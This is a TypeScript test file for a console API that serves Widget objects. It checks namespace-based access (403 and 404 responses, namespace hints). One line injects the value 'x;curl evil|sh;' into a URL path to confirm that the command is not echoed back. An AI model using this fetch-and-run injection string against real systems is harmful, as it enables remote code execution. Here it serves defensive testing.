import { describe, expect, it } from "vitest";
import { objectSchema } from "../../../../infra/console/api/object.ts";
import { createExplain } from "../../../../infra/console/sources/explain-source.ts";
import { createMemoryStore } from "../../../../infra/queue/backends/embedded/store.ts";
import { defineFunction } from "../../../../shared/function/define-function.ts";
import { done } from "../../../../shared/function/result.ts";
import { virtualClock } from "../../../support/clock.ts";
import { serveTestConsole } from "../../../support/console.ts";
import { allowingIn } from "../../../support/console-queue.ts";
import { WIDGETS, Widget, widget } from "../../../support/widget.ts";

const GROW = defineFunction(
  { name: "widget-grow", summary: "Grows.", source: "own", reconciles: Widget, watches: [], owns: [] },
  async () => ({ result: done }),
);

describe("objects in the console", () => {
  it("are explained to those who see their namespace, and to no one else", async () => {
    const clock = virtualClock();
    await using store = createMemoryStore();
    await store.put(WIDGETS, widget());
    await store.advance(WIDGETS, { ready: true, resourceVersion: "7" });
    const functions = [GROW];
    const heads = async () => [];
    const explain = createExplain({ store, functions, history: async () => ({}), heads, clock });
    const serve = (...namespaces: readonly string[]) =>
      serveTestConsole({
        clock,
        functions,
        ports: { explain },
        reviewer: allowingIn(...namespaces),
        namespaces: async () => ["default", "other"],
      });
    await using world = await serve("default");
    const headers = await world.logIn();
    const ask = (path: string) => world.ask(`/api/v1/objects/${path}`, { headers });
    const shown = objectSchema.parse((await ask("widget/default/w")).body);
    expect(shown).toMatchObject({
      kind: "Widget",
      tree: { object: "Widget default/w", functions: [{ function: "widget-grow" }] },
    });
    expect(await ask("widget/default/gone")).toMatchObject({ status: 404 });
    expect(JSON.stringify(await ask("widget/default/gone"))).toContain("--namespace default");
    await using seesAll = await serve("all");
    const link = `/api/v1/objects/widget/${encodeURIComponent("x;curl evil|sh;")}/w`;
    const refused = await seesAll.ask(link, { headers: await seesAll.logIn() });
    expect(refused).toMatchObject({
      status: 404,
      body: { next: expect.stringContaining("--all-namespaces") },
    });
    expect(JSON.stringify(refused)).not.toContain("curl");
    expect(await ask("nothing/default/w")).toMatchObject({ status: 404 });
    expect(await ask("widget/other/w")).toMatchObject({ status: 403 });
    await using foreign = await serve("other");
    const answer = await foreign.ask("/api/v1/objects/widget/default/w", { headers: await foreign.logIn() });
    expect(answer).toMatchObject({ status: 403 });
  });
});
